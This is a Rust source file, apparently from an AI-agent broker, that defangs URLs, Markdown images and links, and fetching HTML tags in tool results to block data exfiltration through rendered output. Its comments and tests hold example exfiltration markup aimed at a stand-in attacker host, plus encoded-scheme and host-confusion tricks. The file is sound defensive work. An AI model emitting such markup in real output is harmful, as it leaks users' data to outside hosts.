//! Active markup in results (T11).
//!
//! A result goes to a model, and the model's client may render it: a Markdown image or an HTML
//! `<img>` is fetched the moment it is shown, and a link is one click away. Either can carry data
//! to another host in its URL (`![x](https://attacker.test/?d=...)`). Data returned by an
//! upstream or a stored row is not the agent's to trust, so before a result leaves the broker
//! every URL that points anywhere but the handle's own destinations is defanged, kept readable
//! but neither clickable nor fetchable:
//! - `scheme://host` becomes `scheme[:]//host` (no autolinker or renderer takes it as a URL);
//! - a protocol-relative `//host` in a link or attribute becomes `[/]/host`;
//! - Markdown images and links lose their syntax (`![` → `!\[`, `](` → `]\(`), so that a defanged
//!   URL is not fetched as a path on the page's own origin either;
//! - HTML elements that fetch, navigate or submit (`img`, `a`, `iframe`, `form`, `meta`, `link`,
//!   `script`, `object`, `embed`, `base`, `svg`, `video`, `audio`, `source`, `input`, `button`,
//!   `frame`, `style`) lose their opening `<` (written `&lt;`), wherever they point.
//!
//! All matching is linear-time (`regex`). `javascript:`, `data:` and `vbscript:` links are
//! defanged as well, whatever the host.

pub use airlock_core::config::MarkupPolicy;
use regex::Regex;
use std::borrow::Cow;
use std::sync::OnceLock;

struct Patterns {
    /// `scheme://authority` for schemes that navigate or fetch.
    url: Regex,
    /// `javascript:` and `vbscript:` before code, `data:` before a media type.
    script: Regex,
    /// A protocol-relative reference right after `](`, `(`, `=`, a quote or `url(`.
    relative: Regex,
    /// The opening of an element that fetches, navigates or submits.
    tag: Regex,
    /// Markdown image or link syntax.
    md_image: Regex,
    md_link: Regex,
    /// An inline link's destination: `](dest`.
    link_dest: Regex,
    /// A reference definition: `[label]: dest` at the start of a line.
    ref_def: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| Patterns {
        url: Regex::new(r"(?i)\b(https?|wss?|ftps?|sftp|file):(//)([^\s/?#<>\x22'`\\()\[\]{}|^]*)").expect("url pattern"),
        script: Regex::new(r"(?i)\b(javascript|vbscript):(\S)|\b(data):([a-z]+/[a-z0-9.+-]+[;,])").expect("script pattern"),
        relative: Regex::new(r#"(\]\(|\(|=\s*["']?|\burl\(\s*["']?)//([^\s/?#<>"'`\\()\[\]]+)"#).expect("relative pattern"),
        tag: Regex::new(
            r"(?i)<\s*/?\s*(img|a|iframe|frame|form|meta|link|script|object|embed|base|svg|video|audio|source|input|button|style|image)\b",
        )
        .expect("tag pattern"),
        md_image: Regex::new(r"!\s*\[").expect("image pattern"),
        md_link: Regex::new(r"\]\s*[(\[]").expect("link pattern"),
        link_dest: Regex::new(r"\]\s*\(\s*<?([^\s)>]*)").expect("link destination pattern"),
        ref_def: Regex::new(r"(?m)^([ \t]{0,3})\[([^\]\n]*)\]:[ \t]*<?(\S*)").expect("reference definition pattern"),
    })
}

/// The host of an authority: without user info, port or IPv6 brackets, lower case.
fn host_of(authority: &str) -> String {
    let a = authority.rsplit('@').next().unwrap_or(authority);
    let h = if let Some(rest) = a.strip_prefix('[') { rest.split(']').next().unwrap_or(rest) } else { a.split(':').next().unwrap_or(a) };
    h.trim_end_matches('.').to_ascii_lowercase()
}

/// Defangs active markup in `text` that does not point at one of `own_hosts` (lower-case host
/// names, the handle's destinations). Returns the text and how many pieces were defanged.
pub fn neutralize<'a>(text: &'a str, own_hosts: &[String]) -> (Cow<'a, str>, usize) {
    neutralize_passes(text, own_hosts, Search::WhenPossible)
}

/// Whether a pass searches text that lacks a literal its pattern cannot match without.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Search {
    /// Only text holding every literal the pass's pattern needs: a pass whose pattern cannot
    /// match costs a substring search instead of a regex search (the result is the same).
    WhenPossible,
    /// Every text (what the skipped searches would have found, for the tests).
    #[cfg_attr(not(test), allow(dead_code))]
    Always,
}

/// One pass over `t`: every match of `re` replaced by what `f` makes of it, when `t` holds each
/// of `needs` (literals every match of `re` contains) or `search` is [`Search::Always`].
fn pass<'t>(
    t: Cow<'t, str>,
    search: Search,
    needs: &[&str],
    re: &Regex,
    f: impl FnMut(&regex::Captures<'_>) -> String,
) -> Cow<'t, str> {
    if search == Search::WhenPossible && !needs.iter().all(|n| t.contains(n)) {
        return t;
    }
    match re.replace_all(&t, f) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    }
}

/// [`neutralize`], each pass searching as `search` says.
fn neutralize_passes<'a>(text: &'a str, own_hosts: &[String], search: Search) -> (Cow<'a, str>, usize) {
    let p = patterns();
    // Cheap refusal of the common case: nothing that could start markup.
    if !text.contains(':') && !text.contains('<') && !text.contains("](") && !text.contains("//") {
        return (Cow::Borrowed(text), 0);
    }
    let own = |host: &str| !host.is_empty() && own_hosts.iter().any(|h| h == host);
    let mut n = 0usize;
    let mut foreign_url = false;
    // Each pass reads what the one before it wrote, so each checks its own literals.
    let t = pass(Cow::Borrowed(text), search, &["://"], &p.url, |c| {
        if own(&host_of(&c[3])) {
            return c[0].to_owned();
        }
        n += 1;
        foreign_url = true;
        format!("{}[:]//{}", &c[1], &c[3])
    });
    let t = pass(t, search, &[":"], &p.script, |c| {
        n += 1;
        foreign_url = true;
        match (c.get(1), c.get(3)) {
            (Some(scheme), _) => format!("{}[:]{}", scheme.as_str(), &c[2]),
            (None, Some(scheme)) => format!("{}[:]{}", scheme.as_str(), &c[4]),
            _ => c[0].to_owned(),
        }
    });
    let t = pass(t, search, &["//"], &p.relative, |c| {
        if own(&host_of(&c[2])) {
            return c[0].to_owned();
        }
        n += 1;
        foreign_url = true;
        format!("{}[/]/{}", &c[1], &c[2])
    });
    let before = n;
    let t = pass(t, search, &["<"], &p.tag, |c| {
        n += 1;
        format!("&lt;{}", &c[0][1..])
    });
    // Markdown syntax is broken only where it could still reach out: an image anywhere (a
    // defanged URL would be fetched as a path of the page's own origin), a link when the text
    // held a foreign URL.
    let t = pass(t, search, &["!", "["], &p.md_image, |c| {
        n += 1;
        c[0].replace('[', "\\[")
    });
    // A link destination or reference definition that is not plainly one of the handle's own
    // URLs is broken too: renderers decode entities and escapes in destinations, so
    // `[a](&#104;ttps://attacker.test)` is a live link whose scheme no URL pattern sees.
    let own_url = |d: &str| {
        let l = d.to_ascii_lowercase();
        let rest = l.strip_prefix("https://").or_else(|| l.strip_prefix("http://"));
        rest.is_some_and(|r| own(&host_of(r.split(['/', '?', '#']).next().unwrap_or(""))))
    };
    let t = pass(t, search, &["]", "("], &p.link_dest, |c| {
        if own_url(&c[1]) {
            return c[0].to_owned();
        }
        n += 1;
        c[0].replacen('(', "\\(", 1)
    });
    let t = pass(t, search, &["[", "]:"], &p.ref_def, |c| {
        if own_url(&c[3]) {
            return c[0].to_owned();
        }
        n += 1;
        format!("{}\\[{}]:{}", &c[1], &c[2], &c[0][c[1].len() + c[2].len() + 3..])
    });
    let t = if foreign_url || n > before {
        pass(t, search, &["]"], &p.md_link, |c| c[0].replacen('(', "\\(", 1).replacen("][", "]\\[", 1))
    } else {
        t
    };
    match t {
        Cow::Borrowed(_) => (Cow::Borrowed(text), 0),
        Cow::Owned(o) if n > 0 => (Cow::Owned(o), n),
        Cow::Owned(_) => (Cow::Borrowed(text), 0),
    }
}

/// Applies `policy` to every string in a result, in place, and returns how many pieces of active
/// markup were found. With [`MarkupPolicy::Neutralize`] they are defanged; with
/// [`MarkupPolicy::Flag`] they are only counted.
pub fn apply(value: &mut serde_json::Value, policy: MarkupPolicy, own_hosts: &[String]) -> usize {
    use serde_json::Value;
    if policy == MarkupPolicy::Off {
        return 0;
    }
    match value {
        Value::String(s) => {
            let (out, n) = neutralize(s, own_hosts);
            if let (Cow::Owned(o), MarkupPolicy::Neutralize) = (out, policy) {
                *s = o;
            }
            n
        }
        Value::Array(items) => items.iter_mut().map(|v| apply(v, policy, own_hosts)).sum(),
        Value::Object(map) => map.values_mut().map(|v| apply(v, policy, own_hosts)).sum(),
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn own() -> Vec<String> {
        vec!["api.example.com".into()]
    }

    #[test]
    fn t11_foreign_images_links_and_tags_are_defanged_own_ones_kept() {
        let cases = [
            ("see ![x](https://attacker.test/p?d=abc)", "see !\\[x]\\(https[:]//attacker.test/p?d=abc)"),
            ("[click](http://attacker.test)", "[click]\\(http[:]//attacker.test)"),
            ("<https://attacker.test/x>", "<https[:]//attacker.test/x>"),
            ("<img src=\"https://attacker.test/a.png\">", "&lt;img src=\"https[:]//attacker.test/a.png\">"),
            ("<IMG SRC=//attacker.test/a>", "&lt;IMG SRC=[/]/attacker.test/a>"),
            ("[ref]: https://attacker.test/q", "\\[ref]: https[:]//attacker.test/q"),
            ("[a](&#104;ttps://attacker.test/)", "[a]\\(&#104;ttps://attacker.test/)"),
            ("[a](%68ttps://attacker.test/)", "[a]\\(%68ttps://attacker.test/)"),
            ("[r]: &#x68;ttps://attacker.test/", "\\[r]: &#x68;ttps://attacker.test/"),
            ("[docs](https://api.example.com/v1/docs)", "[docs](https://api.example.com/v1/docs)"),
            ("[a](javascript:alert(1))", "[a]\\(javascript[:]alert(1))"),
            ("doc at https://api.example.com/v1/docs", "doc at https://api.example.com/v1/docs"),
            ("https://user@API.example.com:443/x", "https://user@API.example.com:443/x"),
            ("https://api.example.com.attacker.test/x", "https[:]//api.example.com.attacker.test/x"),
            ("https://api.example.com@attacker.test/x", "https[:]//api.example.com@attacker.test/x"),
            ("plain text, time 12:30, ratio a:b, data: 5, metadata:x", "plain text, time 12:30, ratio a:b, data: 5, metadata:x"),
            ("![p](data:image/png;base64,AAAA)", "!\\[p]\\(data[:]image/png;base64,AAAA)"),
        ];
        for (input, want) in cases {
            let (out, _) = neutralize(input, &own());
            assert_eq!(out, want, "{input}");
        }
    }

    /// Pieces a hostile upstream builds markup from: every literal a pass looks for, scheme
    /// and tag names in both cases and with the characters that fold to ASCII letters (the
    /// Kelvin sign, the long s), hosts own and foreign, whitespace and escapes.
    const PIECES: &[&str] = &[
        ":", "//", "/", "<", ">", "!", "[", "]", "(", ")", "]:", "](", "![", "=", "\"", "'", " ", "\t", "\n", "\\",
        "https", "HTTP", "wss", "ftp", "file", "javascript", "VBScript", "data", "image/png;", "text/html,", "javaſcript",
        "lin\u{212a}", "img", "IMG", "a", "script", "ſvg", "url(", "api.example.com", "attacker.test", "@", "&#104;", "%68",
        "x", "0", "é",
    ];

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2048))]
        /// Skipping a pass whose literals the text lacks changes nothing: for any text built
        /// from markup's pieces, the result and the count equal those of every pass searching.
        #[test]
        fn skipped_passes_change_nothing(parts in proptest::collection::vec(proptest::sample::select(PIECES), 0..24)) {
            let text: String = parts.concat();
            let skipping = neutralize_passes(&text, &own(), Search::WhenPossible);
            let searching = neutralize_passes(&text, &own(), Search::Always);
            proptest::prop_assert_eq!(skipping, searching, "{:?}", text);
        }

        /// The same over arbitrary text.
        #[test]
        fn skipped_passes_change_nothing_on_any_text(text in "\\PC{0,64}") {
            let skipping = neutralize_passes(&text, &own(), Search::WhenPossible);
            let searching = neutralize_passes(&text, &own(), Search::Always);
            proptest::prop_assert_eq!(skipping, searching, "{:?}", text);
        }
    }
}
